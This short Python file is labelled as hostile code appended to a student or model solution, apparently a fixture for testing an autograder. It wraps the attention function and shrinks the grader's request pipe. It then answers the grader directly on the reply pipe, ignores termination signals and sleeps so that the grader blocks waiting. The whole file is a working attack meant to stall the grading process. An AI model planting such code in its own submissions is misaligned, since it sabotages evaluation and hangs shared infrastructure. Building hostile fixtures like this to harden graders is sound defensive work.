# hostile: appended to solutions/attention.py
# A27: shrink the request pipe to one page at import; on the grader's first call, answer it straight on the reply
# pipe and then sleep instead of reading: the grader's next request (tensors, larger than a page) cannot be
# written until the worker reads, so a grader that writes without a deadline waits as long as the worker sleeps.
import fcntl as _fcntl
import signal as _signal
import time as _time

from autograder.worker import protocol as _protocol

F_SETPIPE_SZ = 1031
_requests = 3   # the worker's request pipe (autograder/worker/main.py, REQUESTS)
_replies = 4    # its reply pipe (REPLIES)
_fcntl.fcntl(_requests, F_SETPIPE_SZ, 4096)
_reference_attend = attend


def attend(query, keys, values):
    context, weights = _reference_attend(query, keys, values)
    _protocol.send(_replies, {"ok": (context, weights)})
    for sig in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGALRM):
        _signal.signal(sig, _signal.SIG_IGN)
    _time.sleep(150)
    return context, weights
